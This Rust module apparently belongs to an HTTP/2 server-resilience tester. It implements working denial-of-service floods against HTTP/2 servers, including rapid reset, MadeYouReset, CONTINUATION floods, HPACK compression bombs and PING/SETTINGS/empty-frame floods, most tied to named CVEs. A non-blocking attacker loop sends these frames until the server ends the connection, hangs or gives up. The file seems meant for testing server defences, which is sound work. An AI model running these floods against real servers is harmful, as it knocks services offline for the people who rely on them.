//! Floods of HTTP/2: frames that are cheap to send.

use super::{End, Flood, Kind, Leave};
use crate::PATIENCE;
use crate::client::byte_stream::{Peer, Wire};
use crate::client::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE, PRIORITY,
    PRIORITY_UPDATE, RST_STREAM, SETTING_WINDOW, SETTINGS, WINDOW_UPDATE, frame,
};
use std::io::{ErrorKind, Read, Write};
use std::thread;
use std::time::{Duration, Instant};

/// All known attacks on servers, and similar ones.
pub(super) const FLOODS: &[Flood] = &[
    // CVE-2023-44487
    calm("rapid reset", |turn| Some([get(id(turn), "/large.bin"), reset(id(turn))].concat())),
    // CVE-2025-8671
    calm("made you reset", |turn| Some(made_you_reset(id(turn), turn))),
    calm("streams that are refused", |turn| match turn {
        0 => Some(setting(SETTING_WINDOW, 0)),
        _ => Some(get(id(turn), "/large.bin")),
    }),
    // CVE-2024-27316
    calm("CONTINUATION of a full frame", |turn| Some(continuation(turn, 16_384))),
    calm("CONTINUATION of little", |turn| Some(continuation(turn, 10))),
    calm("CONTINUATION of nothing", |turn| Some(continuation(turn, 0))),
    // CVE-2019-9515
    calm("SETTINGS", |_| Some(frame(SETTINGS, 0, 0, &[]))),
    calm("SETTINGS, each with thousands", |turn| match turn {
        0..100 => Some(get(id(turn), "/large.bin")),
        _ => Some(frame(SETTINGS, 0, 0, &entry(SETTING_WINDOW, turn % 2).repeat(2700))),
    }),
    // CVE-2019-9512
    calm("PING", |_| Some(frame(PING, 0, 0, b"pingpong"))),
    // CVE-2019-9518
    calm("empty DATA", |turn| match turn {
        0 => Some(head(id(0), END_HEADERS, "POST", "/")),
        _ => Some(frame(DATA, 0, id(0), &[])),
    }),
    calm("padded DATA without content", |turn| match turn {
        0 => Some(head(id(0), END_HEADERS, "POST", "/")),
        _ => Some(frame(DATA, PADDED, id(0), &[0])),
    }),
    calm("empty HEADERS", |turn| Some(frame(HEADERS, END_HEADERS | END_STREAM, id(turn), &[]))),
    // CVE-2019-9513
    calm("PRIORITY", |turn| Some(frame(PRIORITY, 0, id(turn), &[0, 0, 0, 0, turn as u8]))),
    calm("PRIORITY_UPDATE", |turn| {
        let payload = [&[0, 0, 0, 1][..], format!("u={}", turn % 8).as_bytes()].concat();
        Some(frame(PRIORITY_UPDATE, 0, 0, &payload))
    }),
    calm("frames that nobody knows", |_| Some(frame(0xfe, 0xff, 0, &[0; 8]))),
    calm("GOAWAY", |_| Some(frame(GOAWAY, 0, 0, &[0; 8]))),
    calm("RST_STREAM of what is over", |turn| match turn {
        0 => Some(get(id(0), "/")),
        _ => Some(reset(id(0))),
    }),
    // CVE-2019-9511
    calm("windows opened byte by byte", |turn| match turn {
        0 => Some(setting(SETTING_WINDOW, 0)),
        1 => Some(get(id(0), "/large.bin")),
        _ => Some(frame(WINDOW_UPDATE, 0, id(0), &1u32.to_be_bytes())),
    }),
    borne("windows that stay shut", |turn| match turn {
        0 => Some(setting(SETTING_WINDOW, 0)),
        1..=100 => Some(get(id(turn), "/large.bin")),
        _ => None,
    }),
    // CVE-2016-6581: each byte represents 4000 bytes of fields, repeatedly in every request.
    calm("fields of a full table, many times", |turn| match turn {
        0 => Some([open_windows(), hpack_bomb(turn)].concat()),
        _ => Some(hpack_bomb(turn)),
    }),
    // The same within the limits of a head, for content whose windows stay closed.
    borne("fields of a full table, windows that stay shut", |turn| match turn {
        0 => Some([setting(SETTING_WINDOW, 0), hpack_bomb(turn)].concat()),
        1..=100 => {
            let fields = [&block("GET", "/large.bin")[..], &[0xbe; 3]].concat();
            Some(headers_of(id(turn), &fields))
        }
        _ => None,
    }),
    borne("table sizes that change, many times", |turn| {
        Some(headers_of(id(turn), &[&[0x3f, 0xe1, 0x1f, 0x20][..], &block("GET", "/")].concat()))
    }),
    calm("heads beyond the limit", |turn| match turn {
        0 => Some(open_windows()),
        _ => Some(huge_head(id(turn))),
    }),
    borne("half a frame", |turn| match turn {
        0 => Some(head(id(0), END_HEADERS, "POST", "/")[..12].to_vec()),
        _ => None,
    }),
];

/// Returns the bytes of a client in a turn, until it has nothing more to send.
type Next = fn(u32) -> Option<Vec<u8>>;

const fn calm(name: &'static str, next: Next) -> Flood {
    super::calm(name, Kind::Http2(next))
}

const fn borne(name: &'static str, next: Next) -> Flood {
    super::borne(name, Kind::Http2(next))
}

const ENHANCE_YOUR_CALM: u32 = 11;

fn entry(name: u16, value: u32) -> Vec<u8> {
    [&name.to_be_bytes()[..], &value.to_be_bytes()].concat()
}

fn setting(name: u16, value: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &entry(name, value))
}

/// Opens the window for all responses, so that none waits and no stream stays open.
fn open_windows() -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &(1u32 << 30).to_be_bytes())
}

/// Returns the stream of a turn.
fn id(turn: u32) -> u32 {
    2 * turn + 1
}

/// Returns a field block without a table (RFC 7541 §6.2.2): scheme, method, authority, path.
fn block(method: &str, path: &str) -> Vec<u8> {
    let mut block = vec![0x86]; // :scheme http, which is also accepted with TLS
    for (name, value) in [(2, method), (1, "localhost"), (4, path)] {
        block.extend([name, value.len() as u8]);
        block.extend_from_slice(value.as_bytes());
    }
    block
}

fn head(stream: u32, flags: u8, method: &str, path: &str) -> Vec<u8> {
    frame(HEADERS, flags, stream, &block(method, path))
}

fn headers_of(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
}

fn get(stream: u32, path: &str) -> Vec<u8> {
    head(stream, END_HEADERS | END_STREAM, "GET", path)
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())
}

/// Returns frames with errors that make the server end a stream.
fn made_you_reset(stream: u32, turn: u32) -> Vec<u8> {
    let fault = match turn % 6 {
        0 => frame(WINDOW_UPDATE, 0, stream, &[0; 4]),
        1 => frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes()),
        2 => frame(DATA, 0, stream, b"more"),
        3 => frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[1]].concat()),
        4 => frame(PRIORITY, 0, stream, &[0; 4]),
        _ => headers_of(stream, &block("GET", "/")),
    };
    [get(stream, "/large.bin"), fault].concat()
}

/// Returns a part of a head that never ends, in pieces of this many bytes.
fn continuation(turn: u32, bytes: usize) -> Vec<u8> {
    match turn {
        0 => head(id(0), 0, "GET", "/"),
        // Fields without a name and with a long value: repeating them is always valid.
        _ => frame(CONTINUATION, 0, id(0), &[0x00, 0x01, b'a', 0x01, b'b'].repeat(bytes / 5)),
    }
}

/// Returns a field that fills the table first, then requests that refer to it thousands of times.
fn hpack_bomb(turn: u32) -> Vec<u8> {
    let mut fields = block("GET", "/");
    if turn == 0 {
        // 0x40: a literal that is added to the table; 4000 = 127 + 3873.
        fields.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
        fields.extend([b'y'; 4000]);
    } else {
        fields.resize(16_000, 0xbe); // the first entry of the table
    }
    headers_of(id(turn), &fields)
}

/// Returns 40 KiB of a head, in frames of at most 16 KiB.
fn huge_head(stream: u32) -> Vec<u8> {
    let field = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat();
    let full = field.repeat(150);
    let first = [&block("GET", "/")[..], &field.repeat(100)].concat();
    let first = frame(HEADERS, END_STREAM, stream, &first);
    let next = frame(CONTINUATION, 0, stream, &full);
    [first, next, frame(CONTINUATION, END_HEADERS, stream, &full[..full.len() / 2])].concat()
}

/// Floods on one connection until its end.
pub(super) fn attack(next: Next, peer: &Peer, leave: Leave) -> End {
    let mut attacker = match Wire::open(peer) {
        Ok(wire) => Attacker::new(wire),
        Err(error) => return End::of(&error),
    };
    let (mut turn, mut vain_looks) = (0, 0);
    let (mut has_more, mut moved) = (true, Instant::now());
    loop {
        while has_more && attacker.out.len() < 32 << 10 {
            match next(turn) {
                Some(bytes) => attacker.say(&bytes),
                None => has_more = false,
            }
            turn += 1;
        }
        let wrote = attacker.write();
        let read = match attacker.read() {
            Ok(read) => read,
            Err(end) => return end,
        };
        // The last frames of the server may still arrive when it reads nothing more.
        if read || wrote {
            moved = Instant::now();
        } else {
            vain_looks += u32::from(!has_more);
            thread::sleep(Duration::from_micros(500));
        }
        if leave.is_now(attacker.sent_bytes, vain_looks) {
            return End::Left;
        }
        if moved.elapsed() >= PATIENCE {
            return End::Hung;
        }
    }
}

/// A connection in which neither reading nor writing waits for the other.
struct Attacker {
    wire: Wire,
    /// The bytes to send; `sent` is the number of those that were sent.
    out: Vec<u8>,
    sent: usize,
    /// The bytes of an incomplete received frame.
    held: Vec<u8>,
    sent_bytes: u64,
}

impl Attacker {
    fn new(wire: Wire) -> Attacker {
        wire.socket().set_nonblocking(true).expect("a socket");
        let (out, held) = (Vec::new(), Vec::new());
        let mut attacker = Attacker { wire, out, sent: 0, held, sent_bytes: 0 };
        attacker.say(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat());
        attacker
    }

    fn say(&mut self, bytes: &[u8]) {
        let tls = match &mut self.wire {
            Wire::Plain(_) => return self.out.extend_from_slice(bytes),
            Wire::Tls(stream) => &mut stream.conn,
        };
        let mut bytes = bytes;
        while !bytes.is_empty() {
            let taken = tls.writer().write(bytes).expect("a session takes bytes");
            bytes = &bytes[taken..];
            while tls.wants_write() {
                tls.write_tls(&mut self.out).expect("memory takes bytes");
            }
        }
    }

    /// Sends as much as the kernel accepts; returns false if that is nothing.
    fn write(&mut self) -> bool {
        match self.wire.socket().write(&self.out[self.sent..]) {
            Ok(bytes) => {
                self.sent += bytes;
                self.sent_bytes += bytes as u64;
                if self.sent == self.out.len() {
                    self.out.clear();
                    self.sent = 0;
                }
                bytes > 0
            }
            Err(_) => false,
        }
    }

    /// Reads the available bytes, so that the server's last frame is not lost; returns false if
    /// there are none, and an error at the end.
    fn read(&mut self) -> Result<bool, End> {
        const PIECES_MAX: usize = 64; // a mebibyte, because the attacker must write too
        let mut any = false;
        for _ in 0..PIECES_MAX {
            if !self.read_piece()? {
                break;
            }
            any = true;
        }
        Ok(any)
    }

    fn read_piece(&mut self) -> Result<bool, End> {
        let mut bytes = [0; 16_384];
        match self.wire.read(&mut bytes) {
            Ok(0) => Err(End::Cut),
            Ok(count) => {
                self.held.extend_from_slice(&bytes[..count]);
                self.frames().map(|()| true)
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(false),
            Err(_) => Err(End::Cut),
        }
    }

    /// Searches for a GOAWAY among the received frames. One with NO_ERROR ends nothing.
    fn frames(&mut self) -> Result<(), End> {
        let mut rest = self.held.as_slice();
        while let Some((header, behind)) = rest.split_first_chunk::<9>() {
            let bytes = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
            let Some((payload, behind)) = behind.split_at_checked(bytes) else { break };
            rest = behind;
            if header[3] == GOAWAY {
                let code = payload[4..8].try_into().map(u32::from_be_bytes);
                match code.expect("four bytes") {
                    0 => {}
                    ENHANCE_YOUR_CALM => return Err(End::Calm),
                    other => return Err(End::Other(other.into())),
                }
            }
        }
        self.held = rest.to_vec();
        Ok(())
    }
}
